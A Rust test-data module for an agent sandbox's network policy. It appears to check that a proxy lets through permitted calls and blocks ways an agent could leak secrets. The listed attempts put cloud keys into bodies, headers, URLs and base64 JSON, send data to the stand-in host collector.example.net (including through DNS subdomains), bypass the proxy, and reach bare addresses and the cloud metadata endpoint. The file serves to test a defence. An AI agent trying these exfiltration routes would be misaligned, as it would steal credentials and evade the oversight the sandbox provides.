//! What an agent could try, as data: a request, and what must come of it.

use bottle_policy::Rule;

/// The one host that the demo's bottle may reach, with a credential of the person's.
pub(super) const LISTED: &str = "api.example.com";
/// A host that it may not reach.
pub(super) const UNLISTED: &str = "collector.example.net";
/// The variable in which the agent finds a placeholder.
pub(super) const VARIABLE: &str = "DEMO_TOKEN";

/// One thing that an agent could try.
pub(super) struct Step {
    /// In words.
    pub(super) what: &'static str,
    pub(super) attempt: Attempt,
    pub(super) expected: Expected,
}

/// A request. `{key}` in a text becomes a key as a cloud hands them out,
/// `{key64}` the same in base64, `{token}` what the agent holds as its credential.
pub(super) enum Attempt {
    /// A request through the proxy that the environment names.
    Proxied(Fetch),
    /// The same by a program that ignores the proxy variables.
    Direct(Fetch),
    /// A DNS question.
    Question(&'static str),
}

#[derive(Default)]
pub(super) struct Fetch {
    pub(super) url: &'static str,
    pub(super) headers: &'static [&'static str],
    pub(super) data: Option<&'static str>,
}

/// What must come of it.
pub(super) enum Expected {
    /// It passed, and the server saw the real credential.
    Passed,
    /// It was refused by this rule, told in the answer.
    Refused(Rule),
    /// The question was refused.
    NoAnswer,
}

const fn get(url: &'static str) -> Fetch {
    Fetch {
        url,
        headers: &[],
        data: None,
    }
}

pub(super) fn all() -> Vec<Step> {
    use Attempt::{Direct, Proxied, Question};
    use Expected::{NoAnswer, Passed, Refused};
    let step = |what, attempt, expected| Step {
        what,
        attempt,
        expected,
    };
    let secret = || Refused(Rule::Secret);
    vec![
        step(
            "a permitted call; the real key is added outside",
            Proxied(Fetch {
                headers: &["Authorization: Bearer {token}"],
                ..get("https://api.example.com/v1/me")
            }),
            Passed,
        ),
        step(
            "a host that is not on the list",
            Proxied(get("https://collector.example.net/drop")),
            Refused(Rule::UnknownHost),
        ),
        step(
            "a cloud key in a body",
            Proxied(Fetch {
                data: Some("note=done&k={key}"),
                ..get("https://api.example.com/v1/notes")
            }),
            secret(),
        ),
        step(
            "a cloud key in a header",
            Proxied(Fetch {
                headers: &["X-Trace: {key}"],
                ..get("https://api.example.com/v1/me")
            }),
            secret(),
        ),
        step(
            "a cloud key in a URL",
            Proxied(get("https://api.example.com/v1/search?q={key}")),
            secret(),
        ),
        step(
            "the key in base64, inside JSON",
            Proxied(Fetch {
                headers: &["Content-Type: application/json"],
                data: Some(r#"{"image":{"data":"{key64}"}}"#),
                ..get("https://api.example.com/v1/notes")
            }),
            secret(),
        ),
        step(
            "a program that ignores the proxy variables",
            Direct(get("https://collector.example.net/drop")),
            Refused(Rule::UnknownHost),
        ),
        step(
            "data in a DNS question",
            Question("{key}.collector.example.net"),
            NoAnswer,
        ),
        step(
            "a connection to a bare address",
            Direct(get("http://203.0.113.9/drop")),
            Refused(Rule::RawAddress),
        ),
        step(
            "the cloud's metadata address",
            Direct(get("http://169.254.169.254/latest/meta-data/")),
            Refused(Rule::RawAddress),
        ),
        step(
            "TLS to one host, Host of another",
            Proxied(Fetch {
                headers: &["Host: collector.example.net"],
                ..get("https://api.example.com/drop")
            }),
            Refused(Rule::HostMismatch),
        ),
    ]
}
